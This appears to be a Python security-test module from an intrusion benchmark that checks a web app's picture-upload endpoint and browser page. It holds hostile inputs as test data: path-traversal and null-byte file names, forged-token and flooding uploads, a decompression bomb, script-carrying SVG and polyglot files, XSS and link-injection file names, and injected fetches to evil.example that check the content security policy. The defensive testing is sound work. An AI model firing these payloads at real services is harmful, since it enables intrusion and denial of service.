"""Files as a stranger sends them: by the address for uploads, and with a browser."""

from __future__ import annotations

import io
import os
import shutil
import threading
import time
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import TypeVar

import psutil
from PIL import Image
from playwright.sync_api import Page, sync_playwright
from playwright.sync_api import TimeoutError as NotSeen

from benchmarks.intrusion import LINK, Outcome, Target
from benchmarks.intrusion.protocol import ask, begin, open_session

T = TypeVar("T")
PATIENCE = 240_000  # ms
_ARGUMENTS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
              "--disable-component-update", "--disable-sync", "--no-first-run")  # fmt: skip
_REFUSALS = "[data-testid=stAlert]"


class Uploader:
    """One session that sends files to the server as its page would."""

    def __init__(self, target: Target) -> None:
        self._address = target.address
        cookies = ask(self._address, "/_stcore/health")[1]["set-cookie"]
        pairs = dict(part.strip().partition("=")[::2] for part in cookies.split(";"))
        self._token = pairs["_streamlit_xsrf"]
        self._cookie = "; ".join(
            f"{name}={pairs[name]}" for name in ("_streamlit_xsrf", "lens") if name in pairs
        )
        self._open = open_session(self._address, additional_headers={"Cookie": self._cookie})
        self._socket = self._open.__enter__()
        self.session = begin(self._socket)

    def put(self, file: str, data: bytes, session: str | None = None, token: str = "") -> int:
        """Send a file under this name; the status that came back."""
        head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n'
        path = f"/_stcore/upload_file/{self.session if session is None else session}/{file}"
        return ask(self._address, path, "PUT", head + data + b"\r\n--b--\r\n", Cookie=self._cookie,
                   X_Xsrftoken=token or self._token,
                   Content_Type="multipart/form-data; boundary=b")[0]  # fmt: skip

    def leave(self) -> None:
        """The session ends, and takes its files away."""
        self._open.__exit__(None, None, None)


def upload_oddly(target: Target) -> Outcome:
    """For nobody's session, with odd names, without the right token, and too large."""
    person, small, large = Uploader(target), b"x" * 1000, bytes(25_000_000)
    statuses = {
        "of nobody": person.put("0", small, session="of-nobody"),
        "name ../": person.put("..%2f..%2fetc", small),
        "name a%00b": person.put("a%00b", small),
        "wrong token": person.put("0", small, token="2|wrong"),
        "25 MB": person.put("0", large),
    }
    person.leave()
    answers = {f"{upload}: {status}": 1 for upload, status in statuses.items()}
    allowed = {"name a%00b"}  # a name is a key of a dictionary here, and no path
    held = all(s >= 400 for upload, s in statuses.items() if upload not in allowed)
    return Outcome(len(statuses), answers, held)


def upload_often(target: Target, files: int = 10_000, sessions: int = 20) -> Outcome:
    """Small files, many times, from some sessions."""
    people = [Uploader(target) for _ in range(sessions)]
    answers: Counter[str] = Counter()

    def send(person: Uploader) -> None:
        for number in range(files // sessions):
            answers[str(person.put(str(number), b"x" * 1000))] += 1

    with ThreadPoolExecutor(4) as threads:
        [*threads.map(send, people)]
    for person in people:
        person.leave()
    return Outcome(files, dict(answers), answers["204"] <= 20 * sessions)


def upload_much(target: Target) -> Outcome:
    """Files of 18 MB from 25 sessions: more than the server keeps for all of them."""
    people = [Uploader(target) for _ in range(25 * len(target.processes))]
    answers: Counter[str] = Counter()
    body = bytes(18_000_000)
    with _Memory(target) as memory:
        for number in range(3):
            for person in people:
                answers[str(person.put(str(number), body))] += 1
    for person in people:
        person.leave()
    stored_mb = answers["204"] * 18 / 1000
    held = stored_mb <= len(target.processes) and answers["429"] > 0
    note = f"{stored_mb:.2f} GB were kept by {len(target.processes)} processes; {memory.note}"
    return Outcome(answers.total(), dict(answers), held, note)


class _Memory:
    """Watches how much the largest process takes."""

    def __init__(self, target: Target) -> None:
        ports = {int(process.rpartition(":")[2]) for process in target.processes}
        self._watched = [psutil.Process(c.pid) for c in psutil.net_connections("tcp")
                         if c.status == "LISTEN" and c.laddr.port in ports and c.pid]  # fmt: skip
        self._done = threading.Event()
        self.before = self.most = self._now()

    def _now(self) -> float:
        return max((process.memory_info().rss for process in self._watched), default=0) / 1e9

    def __enter__(self) -> _Memory:
        self._thread = threading.Thread(target=self._watch)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._done.set()
        self._thread.join()

    def _watch(self) -> None:
        while not self._done.wait(0.1):
            self.most = max(self.most, self._now())

    @property
    def note(self) -> str:
        return f"the largest process had {self.before:.2f} GB before and {self.most:.2f} GB at most"


def _png(size: tuple[int, int], colour: str = "teal") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, "PNG")
    return buffer.getvalue()


def _hostile() -> dict[str, bytes]:
    """Name to content; what is a picture in part is taken as that picture."""
    small, page = _png((80, 80)), b"<script>document.title = 'taken over'</script>"
    claims = bytearray(small)
    claims[16:24] = (60_000).to_bytes(4, "big") * 2
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "blue")] * 500
    moving = io.BytesIO()
    frames[0].save(moving, "GIF", save_all=True, append_images=frames[1:], duration=20)
    return {
        "claims.png": bytes(claims), "bomb.png": _png((9000, 9000)), "logo.svg": b"<svg xmlns='x'>"
        + page + b"</svg>", "page.jpg": b"<!DOCTYPE html>" + page, "paper.pdf": b"%PDF-1.7",
        "phone.heic": b"\0\0\0\x18ftypheic", "cut.png": _png((400, 400))[:200], "empty.jpg": b"",
        "both.png": small + page, "moving.gif": moving.getvalue(),
        "<img src=x onerror=alert(1)>.jpg": b"words", "[x](https:evil.example).jpg": b"words",
        "a\u202egpj.exe.jpg": b"words",
    }  # fmt: skip


TAKEN = {"both.png", "moving.gif"}


def _with_browser(target: Target, do: Callable[[Callable[[], Page]], T]) -> T:
    chromium = os.environ.get("CHROMIUM") or shutil.which("chromium")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=list(_ARGUMENTS))

        def open_uploader() -> Page:
            page = browser.new_context(reduced_motion="reduce").new_page()
            query = "&".join(f"{name}={value}" for name, value in LINK.items())
            page.goto(f"http://{target.address}/?{query}", timeout=PATIENCE)
            page.locator(".board .answers").first.wait_for(timeout=PATIENCE)
            page.get_by_role("button", name="Choose a picture").click(timeout=PATIENCE)
            page.get_by_text("Upload", exact=True).first.click(timeout=PATIENCE)
            page.locator("input[type=file]").wait_for(state="attached", timeout=PATIENCE)
            page.wait_for_timeout(2000)
            return page

        return do(open_uploader)


def give_hostile_files(target: Target) -> Outcome:
    """Files that are no pictures, that are more than a picture, and names that are more than names.

    Held where each is refused in a sentence or taken as the picture it is, no dialogue opens, the
    page is not taken over, and nothing is asked of another host.
    """
    answers: Counter[str] = Counter()
    strange: list[str] = []

    def give(open_uploader: Callable[[], Page]) -> None:
        page = open_uploader()
        page.on("dialog", lambda dialog: strange.append(dialog.message))
        page.on(
            "request",
            lambda request: strange.append(request.url) if "evil" in request.url else None,
        )
        with TemporaryDirectory() as folder:
            for number, (name, content) in enumerate(_hostile().items(), 10):
                file = Path(folder) / f"{number} {name}"  # which the page's sentence begins with
                file.write_bytes(content)
                answers[f"{name}: {_taken_or_refused(page, file)}"] += 1
        if page.title() == "taken over" or page.locator("img[onerror]").count():
            strange.append(page.title())

    _with_browser(target, give)
    held = not strange and all(
        answer.split(": ", 1)[1].startswith("taken" if name in TAKEN else "refused")
        for answer in answers
        for name in [answer.split(": ", 1)[0]]
    )
    return Outcome(answers.total(), dict(answers), held, "; ".join(strange))


def _taken_or_refused(page: Page, file: Path) -> str:
    before = page.url
    page.locator("input[type=file]").set_input_files(file)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        page.wait_for_timeout(300)
        if page.url != before:
            return "taken"
        for alert in page.locator(_REFUSALS).all_inner_texts():
            if "stays" in alert and file.name[:3] in alert:
                return "refused, " + alert.splitlines()[0].partition(": ")[2][:120]
    return "no answer"


def give_large_pictures(target: Target, tabs: int = 4) -> Outcome:
    """Pictures as large as is allowed, at once from several tabs: memory must stay bounded."""
    taken = 0
    with TemporaryDirectory() as folder, _Memory(target) as memory:

        def give(open_uploader: Callable[[], Page]) -> None:
            nonlocal taken
            pages = [open_uploader() for _ in range(tabs)]
            for number, page in enumerate(pages):
                file = Path(folder) / f"{number}.png"
                Image.new("RGB", (5000, 4990), (number, 0, 0)).save(file)
                page.locator("input[type=file]").set_input_files(file)
            for page in pages:
                try:
                    page.wait_for_url("**image=upload**", timeout=PATIENCE)
                    taken += 1
                except NotSeen:
                    pass

        _with_browser(target, give)
    grown = memory.most - memory.before
    return Outcome(tabs, {"taken": taken}, taken == tabs and grown < 1.0, memory.note)


def fetch_elsewhere(target: Target) -> Outcome:
    """A picture, a script and a connection of another site, asked for by a page of this one."""

    def fetch(open_uploader: Callable[[], Page]) -> list[str]:
        refused: list[str] = open_uploader().evaluate("""async () => {
            const refused = []
            document.addEventListener('securitypolicyviolation',
                event => refused.push(event.effectiveDirective))
            new Image().src = 'http://evil.example/a.png'
            const script = document.createElement('script')
            script.src = 'http://evil.example/a.js'
            document.head.append(script)
            await fetch('http://evil.example/').catch(() => {})
            await new Promise(resolve => setTimeout(resolve, 1000))
            return refused }""")
        return refused

    refused = _with_browser(target, fetch)
    held = {"img-src", "script-src-elem", "connect-src"} <= {*refused}
    return Outcome(3, {f"{name}: refused": 1 for name in refused}, held)
